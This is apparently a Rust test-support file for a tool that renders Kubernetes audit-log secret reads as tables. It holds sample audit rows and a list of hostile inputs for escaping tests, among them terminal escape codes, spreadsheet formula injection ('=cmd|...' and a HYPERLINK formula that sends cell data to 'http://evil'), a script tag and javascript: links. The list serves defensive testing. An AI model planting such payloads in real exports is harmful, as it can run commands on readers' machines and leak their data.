//! Rows for the tests, taken from real audit logs of a kube-apiserver 1.28.7.

use std::sync::Arc;

use arrow::array::builder::{ListBuilder, StringBuilder};
use arrow::array::{ArrayRef, Int32Array, RecordBatch, StringArray, TimestampMicrosecondArray};
use chrono::DateTime;
use unicode_width::UnicodeWidthStr;

use crate::visible::is_hostile;
use crate::{Format, Layout, Summary};

/// The columns of `secret-reads`, in its order.
pub(crate) const COLUMNS: [&str; 12] = [
    "event_time",
    "user_name",
    "impersonated_user",
    "verb",
    "namespace",
    "name",
    "outcome",
    "status_code",
    "source_ip",
    "user_agent",
    "decision_reason",
    "audit_id",
];

/// One row per line, a bar between the columns; an empty field is NULL, `""` is the empty text.
const READS: &str = r#"
2026-11-21T20:36:42.722697Z|system:kube-controller-manager||list|||allowed|200|127.0.0.1|kube-controller-manager/v1.28.7 (linux/amd64) kubernetes/c8dcb00/shared-informers|RBAC: allowed by ClusterRoleBinding "system:kube-controller-manager" of ClusterRole "system:kube-controller-manager" to User "system:kube-controller-manager"|81d69de1-b08c-42b4-af90-8c0fe73f84f6
2026-11-21T20:36:50.555589Z|kubernetes-admin||get|dev|legacy-bot-token|failed|404|127.0.0.1|kubectl/v1.32.5 (linux/amd64) kubernetes/9894294|""|952f3192-8ad2-4365-b801-8be21ecf9f45
2026-11-21T20:37:04.507127Z|system:serviceaccount:dev:legacy-bot||get|dev|legacy-bot-token|allowed|200|127.0.0.1|python-kubernetes/25.3.0|RBAC: allowed by RoleBinding "dev-edit/dev" of ClusterRole "edit" to ServiceAccount "legacy-bot/dev"|4f0ee777-223b-4627-a808-6d6a7cb49693
2026-11-21T20:37:37.791307Z|system:serviceaccount:prod:web||list|||denied|403|127.0.31.9|curl/8.5.0|""|4285d2b6-6935-4efb-8200-83db50b8fdb9
2026-11-21T20:37:38.168819Z|system:serviceaccount:dev:legacy-bot||list|dev||allowed|200|127.0.31.9|curl/8.5.0|RBAC: allowed by RoleBinding "dev-edit/dev" of ClusterRole "edit" to ServiceAccount "legacy-bot/dev"|47637e1f-d5a3-4703-8189-68c9cc9a30fa
2026-11-21T20:37:38.233504Z|mallory||list|||denied|403|127.0.0.1|kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0||91ff95a4-e39a-4948-95ee-0afe1756e46b
2026-11-21T20:37:38.262056Z|bob||get|prod|db-credentials|allowed|200|127.0.31.9|Go-http-client/1.1|RBAC: allowed by ClusterRoleBinding "ops-admin" of ClusterRole "cluster-admin" to Group "ops"|8a68baa0-b034-41a3-b08f-c2503e6715b1
2026-11-21T20:37:40.327345Z|bob|system:admin|list|kube-system||allowed|200|127.0.0.1|kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0|""|fbf61798-787a-408d-abcd-1884b6c4ac7a
"#;

/// Fields of the real rows; `None` is NULL.
pub(crate) fn reads() -> Vec<Vec<Option<String>>> {
    let field = |text: &str| match text {
        "" => None,
        "\"\"" => Some(String::new()),
        _ => Some(text.to_owned()),
    };
    READS.trim().lines().map(|line| line.split('|').map(field).collect()).collect()
}

/// A batch with the columns of `secret-reads`.
pub(crate) fn batch(rows: &[Vec<Option<String>>]) -> RecordBatch {
    let column = |index: usize| -> ArrayRef {
        let fields = rows.iter().map(|row| row[index].as_deref());
        match COLUMNS[index] {
            "event_time" => {
                let micros = |text| DateTime::parse_from_rfc3339(text).unwrap().timestamp_micros();
                Arc::new(TimestampMicrosecondArray::from_iter(fields.map(|text| text.map(micros))))
            }
            "status_code" => Arc::new(Int32Array::from_iter(fields.map(|text| text.map(|text| text.parse().unwrap())))),
            _ => Arc::new(StringArray::from_iter(fields)),
        }
    };
    let columns = COLUMNS.iter().enumerate().map(|(index, name)| (*name, column(index), true));
    RecordBatch::try_from_iter_with_nullable(columns).unwrap()
}

/// A batch of one column per pair.
pub(crate) fn columns(columns: Vec<(&str, ArrayRef)>) -> RecordBatch {
    let columns = columns.into_iter().map(|(name, column)| (name, column, true));
    RecordBatch::try_from_iter_with_nullable(columns).unwrap()
}

/// A column of text.
pub(crate) fn text(values: &[Option<&str>]) -> ArrayRef {
    Arc::new(StringArray::from(values.to_vec()))
}

/// The bytes that `format` makes of `batches`.
pub(crate) fn bytes(format: Format, layout: Layout, batches: &[RecordBatch]) -> (Vec<u8>, Summary) {
    let mut out = Vec::new();
    let mut sink = format.writer(batches[0].schema(), layout, &mut out).unwrap();
    for batch in batches {
        sink.write_batch(batch).unwrap();
    }
    let summary = sink.finish().unwrap();
    (out, summary)
}

/// What `format` makes of `batches`, as text.
pub(crate) fn written(format: Format, layout: Layout, batches: &[RecordBatch]) -> (String, Summary) {
    let (out, summary) = bytes(format, layout, batches);
    (String::from_utf8(out).unwrap(), summary)
}

/// The table of `batches` without colour.
pub(crate) fn table(width: Option<usize>, batches: &[RecordBatch]) -> (String, Summary) {
    written(Format::Table, Layout { width, ..Layout::default() }, batches)
}

/// The properties of every table.
pub(crate) fn check(width: Option<usize>, table: &str) {
    for line in table.lines() {
        assert!(width.is_none_or(|width| line.width() <= width), "{width:?} {line:?}");
        assert_eq!(line, line.trim_end(), "{width:?}");
        assert!(!line.chars().any(is_hostile), "{line:?}");
    }
    assert!(table.is_empty() || table.ends_with('\n'));
}

/// Everything but white space, in order: what must not change when a cell wraps.
pub(crate) fn letters(text: &str) -> String {
    text.chars().filter(|character| !character.is_whitespace()).collect()
}

/// Texts that an intruder may choose: for terminals, spreadsheets, browsers, and readers that count bytes.
pub(crate) fn hostile() -> Vec<String> {
    let texts = [
        "\x1b[2J\x1b]0;title\x07\x1b[31mred",
        "=cmd|'/c calc'!A1",
        "+1+cmd",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=HYPERLINK(\"http://evil/?\"&A1)",
        "\r\n=1",
        "<script>alert(1)</script>",
        "![x](http://evil/p.png) [y](javascript:z) <http://evil> https://evil.example www.evil.example a@evil.example",
        "| a | b |",
        "back\\|slash \\",
        "`tick` ``ticks`` ```",
        "admin\u{202e}nimda\u{2066}\u{200b}",
        "two\nlines\r\nand\rmore\u{2028}",
        "NUL\0inside",
        "\"quoted, with comma\"",
        "\"",
        " spaces ",
        "\\N",
        "NULL",
        "",
        "日本語 🦀",
    ];
    texts.into_iter().map(str::to_owned).chain([format!("={}", "A".repeat(1_000_000))]).collect()
}

/// A batch of two rows for each hostile text, in every column that an intruder can choose, numbers among them; the second
/// row has a name of NULL.
pub(crate) fn hostile_batch() -> RecordBatch {
    let texts: Vec<String> = hostile().into_iter().flat_map(|text| [text.clone(), text]).collect();
    let all: Vec<Option<&str>> = texts.iter().map(|text| Some(text.as_str())).collect();
    let names: Vec<Option<&str>> = all.iter().enumerate().map(|(row, text)| text.filter(|_| row % 2 == 0)).collect();
    let mut groups = ListBuilder::new(StringBuilder::new());
    for text in &all {
        groups.append_value([*text, None, Some("ops")]);
    }
    let times =
        TimestampMicrosecondArray::from_iter_values((0..all.len()).map(|row| 1_795_293_458_239_247 + row as i64));
    columns(vec![
        ("event_time", Arc::new(times) as ArrayRef),
        ("user_name", text(&all)),
        ("verb", text(&vec![Some("get"); all.len()])),
        ("name", text(&names)),
        ("groups", Arc::new(groups.finish())),
        ("change", Arc::new(Int32Array::from(vec![-5; all.len()]))),
        ("user_agent", text(&all)),
    ])
}
